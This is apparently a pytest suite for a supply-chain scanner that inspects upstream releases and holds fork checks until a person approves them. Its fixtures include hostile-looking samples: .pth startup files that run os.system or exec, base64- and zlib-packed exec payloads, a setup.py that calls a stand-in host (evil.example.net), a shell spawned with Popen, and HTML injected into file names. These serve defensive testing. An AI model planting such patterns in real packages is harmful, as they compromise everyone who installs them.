"""The supply-chain scan of a release (forksync.supply_chain), on real repositories: each attack
a compromised release has used is added to a release and must be found, with its severity; a
harmless release has no finding; and a high finding keeps every check from running until a
person approves the release."""

from __future__ import annotations

import base64
import json
import os
import stat
import subprocess
import sys
import zlib
from pathlib import Path

import pytest

from forksync import supply_chain
from forksync.commands.sync import execute
from forksync.git import Git
from forksync.report import Report, ScanFinding, SupplyChainScan
from forksync.supply_chain import BLOB_MIN, encoded_runs, runner_calls
from forksync.verdict import recommend
from tests.gitutil import Repo, git

PAYLOAD = base64.b64encode(b"import os, urllib.request\n" * 20).decode()  # 560 characters


def release(
    tmp_path: Path, base: dict[str, str | bytes], files: dict[str, str | bytes | None]
) -> tuple[Repo, str, str]:
    repo = Repo(tmp_path / "up")
    base_sha = repo.commit({"README.md": "hello\n", **base}, "base")
    rel = repo.commit(files, "release")
    return repo, base_sha, rel


def scan(
    tmp_path: Path, files: dict[str, str | bytes | None], base: dict[str, str | bytes] | None = None
) -> SupplyChainScan:
    repo, b, r = release(tmp_path, base or {}, files)
    return supply_chain.scan_release(Git(repo.path), b, r, guarddog=False)


def found(result: SupplyChainScan) -> set[tuple[str, str, str]]:
    return {(f.path, f.severity, f.rule) for f in result.findings}


def test_a_pth_with_an_import_line_is_high(tmp_path: Path) -> None:
    result = scan(tmp_path, {"litellm_init.pth": "import os; exec(open('x').read())\n", "paths.pth": "src\n"})
    assert ("litellm_init.pth", "high", "startup") in found(result)
    assert ("paths.pth", "medium", "startup") in found(result)
    high = [f for f in result.findings if f.severity == "high"]
    assert "import os" in high[0].reason


def test_base64_blob_passed_to_exec_is_high_and_only_what_the_release_adds(tmp_path: Path) -> None:
    evil = f'import base64\nexec(base64.b64decode("{PAYLOAD}"))\n'
    result = scan(tmp_path, {"pkg/util.py": "x = 1\n" + evil, "pkg/other.py": "y = 2\n"})
    assert ("pkg/util.py", "high", "obfuscated") in found(result)
    assert not any(f.path == "pkg/other.py" for f in result.findings)
    # through a name, and in a file that does not parse (regex pass)
    named = f'import zlib, base64\nblob = "{PAYLOAD}"\nexec(zlib.decompress(base64.b64decode(blob)))\n'
    broken = f'exec(base64.b64decode("{PAYLOAD}")\n'
    result = scan(tmp_path / "2", {"a.py": named, "b.py": broken})
    assert {("a.py", "high", "obfuscated"), ("b.py", "high", "obfuscated")} <= found(result)
    # the same payload already at the merge base is not what this release brings
    result = scan(tmp_path / "3", {"pkg/util.py": evil + "z = 3\n"}, base={"pkg/util.py": evil})
    assert not any(f.rule == "obfuscated" for f in result.findings)


def test_split_and_binary_payloads_are_high(tmp_path: Path) -> None:
    """Evasions: the payload cut into short concatenated chunks; zlib-compressed bytes escaped."""
    chunks = " + ".join(f'"{PAYLOAD[i : i + 60]}"' for i in range(0, len(PAYLOAD), 60))
    split = f"import base64\nexec(base64.b64decode({chunks}))\n"
    packed = zlib.compress(os.urandom(300))
    escaped = f"import marshal, zlib\nexec(marshal.loads(zlib.decompress({packed!r})))\n"
    result = scan(tmp_path, {"a.py": split, "b.py": escaped})
    assert {("a.py", "high", "obfuscated"), ("b.py", "high", "obfuscated")} <= found(result)


def test_a_lone_long_literal_is_low(tmp_path: Path) -> None:
    """An embedded icon decoded but never run is low; `re.compile` and `model.eval()` run nothing."""
    icon = f'import base64, re\nICON = base64.b64decode("{PAYLOAD}")\nR = re.compile("x")\nm.eval()\n'
    result = scan(tmp_path, {"data.py": icon})
    assert found(result) == {("data.py", "low", "encoded-blob")}


def test_a_payload_through_several_names_is_high(tmp_path: Path) -> None:
    chain = f'import base64, zlib\nblob = "{PAYLOAD}"\nraw = base64.b64decode(blob)\ncode = zlib.decompress(raw)\nexec(code)\n'
    assert ("a.py", "high", "obfuscated") in found(scan(tmp_path, {"a.py": chain}))


def test_new_binaries(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    result = scan(
        tmp_path, {"tools/helper": elf, "lib/_speedups.so": b"\0" * 10, "dist/x.whl": b"PK\x03\x04"}
    )
    assert ("tools/helper", "high", "binary") in found(result)
    assert "ELF" in next(f.reason for f in result.findings if f.path == "tools/helper")
    assert ("lib/_speedups.so", "high", "binary") in found(result)
    assert ("dist/x.whl", "high", "binary") in found(result)


def test_executable_bit(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "up")
    b = repo.commit({"run.sh": "#!/bin/sh\necho hi\n"}, "base")
    mode = (repo.path / "run.sh").stat().st_mode
    (repo.path / "run.sh").chmod(mode | stat.S_IXUSR)
    r = repo.commit({}, "chmod")
    result = supply_chain.scan_release(Git(repo.path), b, r, guarddog=False)
    assert found(result) == {("run.sh", "low", "executable")}


def test_a_changed_workflow_is_medium(tmp_path: Path) -> None:
    wf = ".github/workflows/ci.yml"
    result = scan(tmp_path, {wf: "on: push\njobs: {}\n# changed\n"}, base={wf: "on: push\njobs: {}\n"})
    assert found(result) == {(wf, "medium", "ci-workflow")}


def test_a_harmless_release_has_no_finding(tmp_path: Path) -> None:
    result = scan(
        tmp_path,
        {
            "pkg/__init__.py": '__version__ = "1.1.0"\n',
            "pkg/core.py": "def add(a, b):\n    return a + b\n",
            "docs/index.md": "see https://example.com\n",
            "pyproject.toml": '[project]\nname = "pkg"\nversion = "1.1.0"\n'
            '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
        },
        base={
            "pyproject.toml": '[project]\nname = "pkg"\nversion = "1.0.0"\n'
            '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
        },
    )
    assert result.findings == []
    assert result.files_changed == 4


def test_install_and_import_time_files(tmp_path: Path) -> None:
    pyproject = (
        '[project]\nname = "pkg"\n[project.scripts]\npkg = "pkg.cli:main"\nupdate = "pkg.evil:run"\n'
        '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
        '[tool.hatch.build.hooks.custom]\npath = "build/hooks.py"\n'
    )
    result = scan(
        tmp_path,
        {
            "pyproject.toml": pyproject,
            "setup.py": 'import urllib.request\nurllib.request.urlopen("https://evil.example.net:8443/x")\n'
            "setup(cmdclass={'install': Install})\n",
            "sitecustomize.py": "print('hi')\n",
            "conftest.py": "import os\n",
            "src/pkg/__init__.py": "import subprocess\nsubprocess.Popen(['sh'])\n",
            "package.json": json.dumps({"scripts": {"postinstall": "node x.js"}}),
            "build/hooks.py": "import urllib.request\nURL = 'http://203.0.113.7/p'\n",
            "_build/backend.py": "def build_wheel(*a): pass\n",
        },
        base={"pyproject.toml": '[project]\nname = "pkg"\n[project.scripts]\npkg = "pkg.cli:main"\n'},
    )
    got = found(result)
    assert ("pyproject.toml", "high", "build-backend") in got  # backend-path: an in-tree backend
    assert ("pyproject.toml", "medium", "build-hook") in got
    assert ("sitecustomize.py", "high", "startup") in got
    assert {("setup.py", "medium", "install-time"), ("setup.py", "medium", "endpoint")} <= got
    assert ("conftest.py", "medium", "test-startup") in got
    assert ("src/pkg/__init__.py", "medium", "import-time") in got
    assert ("package.json", "medium", "install-time") in got
    scripts = [f.reason for f in result.findings if f.rule == "entry-point"]
    assert scripts == ["scripts entry point update = pkg.evil:run"]  # only the added one
    assert any("evil.example.net:8443" in f.reason for f in result.findings)
    # the files the pyproject runs at build time: the hook and the in-tree backend
    assert {("build/hooks.py", "medium", "build-hook"), ("_build/backend.py", "medium", "build-hook")} <= got
    assert ("build/hooks.py", "medium", "endpoint") in got


def fast_import(repo: Repo, files: dict[str, bytes], parent: str) -> str:
    """One commit of many files in one `git fast-import` process (building 3,000 files is quick)."""
    stream = [
        b"commit refs/heads/main",
        b"committer T <t@example.com> 0 +0000",
        b"data 4",
        b"bulk",
        b"from " + parent.encode(),
    ]
    for path, data in files.items():
        stream += [f"M 100644 inline {path}".encode(), f"data {len(data)}".encode(), data]
    subprocess.run(
        ["git", "fast-import", "--quiet"], cwd=repo.path, input=b"\n".join(stream) + b"\n", check=True
    )
    return repo.git("rev-parse", "main")


def test_thousands_of_files_bounded_work(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "up")
    base = repo.commit({"README.md": "hello\n"}, "base")
    files = {f"pkg/m{i:04d}.py": f"X = {i}\n".encode() + b"#" * 1000 for i in range(3000)}
    files["big.py"] = b"#" * (supply_chain.MAX_FILE_BYTES + 10)
    files["zzz_init.pth"] = b"import os\n"  # after the filler: the budget goes to it first
    files["zzz/tool"] = b"\x7fELF" + b"\0" * (supply_chain.MAX_FILE_BYTES + 10)
    rel = fast_import(repo, files, base)
    result = supply_chain.scan_release(Git(repo.path), base, rel, guarddog=False, max_total=200_000)
    assert result.files_changed == 3003
    assert result.git_calls == 3  # diff, sizes, one batch read: whatever the number of files
    assert result.bytes_read <= 200_000
    assert 150 <= result.blobs_read <= 200
    assert result.notes[0].startswith(f"{3003 - result.blobs_read} file(s) not read")
    assert found(result) == {("zzz_init.pth", "high", "startup")}
    # padded past the per-file limit, an install-time file is still named
    files = {"setup.py": b"#" * (supply_chain.MAX_FILE_BYTES + 1) + b"\nimport os\n"}
    result = supply_chain.scan_release(Git(repo.path), rel, fast_import(repo, files, rel), guarddog=False)
    assert ("setup.py", "medium", "install-time") in found(result)
    assert any(f.reason == "install-time file too large to inspect" for f in result.findings)


def test_guarddog_stand_in_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A stand-in `guarddog` CLI (GuardDog's JSON shape) receives the changed files; without one,
    the scan says it was not run."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    script = bindir / "guarddog"
    # GuardDog 3.2's JSON shape (taken from a real run): paths relative to the scanned folder,
    # empty rules as {}, capability rules beside threat rules
    script.write_text(
        f"#!{sys.executable}\nimport json, os, sys\nroot = sys.argv[3]\n"
        "files = sorted(os.path.relpath(os.path.join(d, f), root) for d, _, fs in os.walk(root) for f in fs)\n"
        "hit = {'location': files[0] + ':2', 'code': 'exec(...)', 'match': 'exec(', 'message': 'exec of base64 ' + ','.join(files)}\n"
        "print(json.dumps({'package': root, 'errors': {}, 'issues': 2, 'results': {"
        "'threat-runtime-obfuscation-base64exec': [hit], 'capability-process-spawn': [hit], 'threat-process-hooks': {}}}))\n"
    )
    script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    repo, b, r = release(tmp_path, {}, {"pkg/a.py": "x = 1\n"})
    result = supply_chain.scan_release(Git(repo.path), b, r)
    assert result.guarddog == "ran on 1 file(s): 1 finding(s), 1 capability match(es) not listed"
    assert [(f.path, f.severity, f.rule) for f in result.findings] == [
        ("pkg/a.py", "medium", "guarddog:threat-runtime-obfuscation-base64exec")
    ]
    assert result.findings[0].reason == "line 2: exec of base64 pkg/a.py"
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    result = supply_chain.scan_release(Git(repo.path), b, r)
    assert result.guarddog.startswith("not run: GuardDog is not installed")


def test_approval_and_reasons() -> None:
    scan = SupplyChainScan(findings=[ScanFinding("x.pth", "high", "startup", "runs")])
    assert supply_chain.approved("v1.2.3", ["v1.2.3"], None)
    assert supply_chain.approved("v1.2.3", [], "v1.0.0, v1.2.3")
    assert not supply_chain.approved("v1.2.3", ["v1.2"], "v1.2.4")
    assert "approved-releases" in supply_chain.held_reason(scan, "v1.2.3", False)
    assert supply_chain.held_reason(scan, "v1.2.3", True) == ""
    scan.held = supply_chain.held_reason(scan, "v1.2.3", False)
    r = Report("id", "now", "repo", "main", "url", scan=scan)
    again = Report.from_dict(json.loads(r.to_json()))
    assert again.scan == scan
    from forksync.config import Config

    rec, reasons = recommend(again, Config())
    assert rec == "needs-review"
    assert "1 supply-chain scan finding(s): 1 high" in reasons
    assert any(x.startswith("upstream code not run: ") for x in reasons)
    assert recommend(Report.from_dict({**again.to_dict(), "reasons": reasons}), Config())[1] == reasons


def hostile_release(demo: tuple[Path, Path, Path], tmp_path: Path) -> Path:
    """Upstream v1.3.0 adds a start-up `.pth` (with Markdown bait in its name and first line) and
    approves itself in a `.forksync.toml` of its own; the fork's check would write a marker file."""
    upstream, _, fork = demo
    (upstream / "litellm_init.pth").write_text("import os; os.system('touch /tmp/pwned')\n")
    (upstream / "x`<img src=y>`.pth").write_text("import os  # <img src=x> @org/team fixes #1\n")
    (upstream / ".forksync.toml").write_text('[security]\napproved-releases = ["v1.3.0"]\n')
    git(upstream, "add", "-A")
    git(upstream, "commit", "-qm", "Release 1.3.0")
    git(upstream, "tag", "v1.3.0")
    marker = tmp_path / "check-ran"
    config = (fork / ".forksync.toml").read_text()
    command = json.dumps([sys.executable, "-c", f"open({str(marker)!r}, 'w').write('ran')"])
    config = config.replace(
        config[config.index("commands = [") : config.index("\ntimeout")], f"commands = [{command}]"
    )
    config += '[security]\nsandbox = "off"\nallow-unsandboxed = true\n'
    (fork / ".forksync.toml").write_text(config)
    git(fork, "commit", "-qam", "check writes a marker")
    return marker


def test_a_high_finding_holds_back_every_check_until_approved(
    demo: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    _, remote, fork = demo
    marker = hostile_release(demo, tmp_path)
    report = execute(fork, None, quiet=True)
    assert (
        report.scan is not None and report.scan.held and not report.scan.approved
    )  # upstream cannot approve itself
    assert ("litellm_init.pth", "high", "startup") in found(report.scan)
    assert not marker.exists() and report.checks == []  # the check never ran
    assert len(report.merge_parents) == 2  # merged and resolved: no code runs there
    assert git(remote, "branch", "--list", "upstream-sync/v1.3.0").strip()  # pushed for review
    assert report.recommendation == "needs-review"
    assert any(x.startswith("upstream code not run: ") for x in report.reasons)
    assert report.exit_code == 7 and report.status == "checks-failed"
    assert report.pull_request is not None and report.pull_request.draft
    body = report.pr_body
    assert "### Supply-chain scan" in body and "Upstream code was not run" in body
    assert "`litellm_init.pth`" in body and "@org/team" not in body
    assert "``x`<img src=y>`.pth``" in body  # a code span: shown literally, not as HTML
    assert "# &lt;img src=x&gt;" in body and "<img src=x>" not in body
    saved = json.loads(Path(report.report_path).read_text())
    assert saved["scan"]["findings"][0]["severity"] == "high"

    # A person reviews and approves the release on the fork: the checks run.
    with (fork / ".forksync.toml").open("a") as fh:
        fh.write('approved-releases = ["v1.3.0"]\n')
    git(fork, "commit", "-qam", "approve v1.3.0")
    report = execute(fork, None, quiet=True)
    assert report.scan is not None and report.scan.approved and not report.scan.held
    assert marker.read_text() == "ran" and [c.passed for c in report.checks] == [True]
    assert report.recommendation == "needs-review"  # the findings stay listed for review
    assert "high-severity findings were approved" in report.pr_body.lower()


def test_approval_by_environment(
    demo: tuple[Path, Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, _, fork = demo
    marker = hostile_release(demo, tmp_path)
    monkeypatch.setenv("FORKSYNC_APPROVE_RELEASE", "v1.3.0")
    report = execute(fork, None, quiet=True)
    assert report.scan is not None and report.scan.approved and marker.exists()


def test_a_new_version_of_a_wheel_the_project_already_commits_is_routine(tmp_path: Path) -> None:
    """litellm commits each release's `dist/*.whl`: its v1.81.9 added seven, and each held the
    sync as "high". A new version of an archive the same folder already held is noted, not
    flagged; a new kind of archive there, and native binaries, still are."""
    base = {"enterprise/dist/litellm_enterprise-0.1.28-py3-none-any.whl": b"PK\x03\x04old"}
    files: dict[str, str | bytes | None] = {
        "enterprise/dist/litellm_enterprise-0.1.29-py3-none-any.whl": b"PK\x03\x04new",
        "enterprise/dist/stranger-1.0-py3-none-any.whl": b"PK\x03\x04",
        "enterprise/dist/_speedups.so": b"\x7fELF" + b"\0" * 10,
    }
    result = scan(tmp_path, files, base)
    assert found(result) == {
        ("enterprise/dist/stranger-1.0-py3-none-any.whl", "high", "binary"),
        ("enterprise/dist/_speedups.so", "high", "binary"),
    }
    assert any("litellm_enterprise-0.1.29" in note for note in result.notes)


# -- the fast text scans (bytes.find instead of regexes tried at every position) ---------------


def test_encoded_runs_are_the_long_base64_and_escaped_hex_runs() -> None:
    run = b"A" * BLOB_MIN
    assert encoded_runs(b"x = '" + run + b"'\n") == [run]
    assert encoded_runs(b"x = '" + run[:-1] + b"'\n") == []  # one character short
    assert encoded_runs(b"a" * 50 + b" " + b"b" * 50) == []  # two short runs are not one long one
    escaped = b"".join(b"\\x%02x" % (n % 256) for n in range(BLOB_MIN // 2))
    assert encoded_runs(b"p = b'" + escaped + b"'") == [escaped]
    assert encoded_runs(b"esc = '\\x1b[0m'\n" * 3) == []  # a few terminal escapes: no payload
    assert encoded_runs(run, limit=BLOB_MIN - 1) == []  # only the head of a large blob is read


def test_runner_calls_name_exec_and_friends_but_not_regex_compile_or_longer_names() -> None:
    text = b"exec (code)\nre.compile('x')\nmy_eval(1)\nevaluate(2)\n__import__('os')\nm = marshal.loads(b)\n"
    assert list(runner_calls(text)) == ["exec", "__import__", "marshal.loads"]
    assert list(runner_calls(b"nothing to run here\n")) == []
